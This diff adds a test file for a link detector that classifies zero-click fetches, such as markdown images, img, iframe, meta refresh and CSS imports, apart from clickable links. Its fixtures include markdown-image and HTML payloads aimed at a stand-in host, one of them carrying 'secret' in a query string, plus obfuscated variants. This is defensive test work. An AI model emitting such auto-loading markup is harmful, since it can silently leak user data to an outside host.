@@ -1,0 +1,76 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { readText } from '../reading/reading';
+import { findLinks } from './links';
+
+const linksOf = (text: string) => findLinks(readText(text)).map(({ type, host }) => `${type} ${host}`);
+
+describe('findLinks', () => {
+  it.each([
+    'See ![chart](https://evil.example/p?d=secret).',
+    '![x]( <https://evil.example/a b> )',
+    '![x](//evil.example/p)',
+    '![x](https:\\\\evil.example/p)',
+    '![x](https:evil.example/p)',
+    'An ![image][1] here.\n\n[1]: https://evil.example/p',
+    '<img alt="a" src="https://evil.example/p.png">',
+    "<IMG/src='https://EVIL.example:8443/p'>",
+    '<img srcset="https://evil.example/p 2x">',
+    '<iframe src=https://evil.example/></iframe>',
+    '<link rel="stylesheet" href="https://evil.example/s.css">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<p style="background: url(https://evil.example/p)">',
+    '<style>@import "https://evil.example/s.css"</style>',
+  ])('says what is fetched without a click in %j', (text) => {
+    expect(linksOf(text)).toEqual(['FETCHED_LINK evil.example']);
+  });
+
+  it.each([
+    ['Read https://docs.example.org/a.', 'docs.example.org'],
+    ['[docs](https://docs.example.org/a)', 'docs.example.org'],
+    ['<a href="https://docs.example.org">docs</a>', 'docs.example.org'],
+    ['www.example.org has it', 'www.example.org'],
+    ['[docs][1]\n\n[1]: https://docs.example.org/a', 'docs.example.org'],
+    ['https://user@bücher.example/', 'xn--bcher-kva.example'],
+  ])('says where a click leads to in %j', (text, host) => {
+    expect(linksOf(text)).toEqual([`LINK ${host}`]);
+  });
+
+  it.each(['a // comment', 'and/or', 'C:\\\\temp', 'https', '12:30', ''])('finds none in %j', (text) => {
+    expect(linksOf(text)).toEqual([]);
+  });
+
+  it('gives the address exactly, without the full stop behind it', () => {
+    const text = 'Go to https://example.org/a?b=c. Then stop.';
+    expect(findLinks(readText(text)).map(({ start, end }) => text.slice(start, end))).toEqual([
+      'https://example.org/a?b=c',
+    ]);
+  });
+
+  it('never throws, whatever the text', () => {
+    const parts = fc.constantFrom(
+      'https:',
+      '//',
+      '[',
+      ']',
+      '(',
+      ')',
+      '![',
+      '<img src=',
+      'a',
+      '.',
+      '\ud800',
+      '\u202e',
+      '%00',
+    );
+    fc.assert(
+      fc.property(fc.array(parts, { maxLength: 40 }), (pieces) => {
+        const text = pieces.join('');
+        for (const { start, end } of findLinks(readText(text))) {
+          expect(start).toBeLessThan(end);
+          expect(end).toBeLessThanOrEqual(text.length);
+        }
+      }),
+    );
+  });
+});
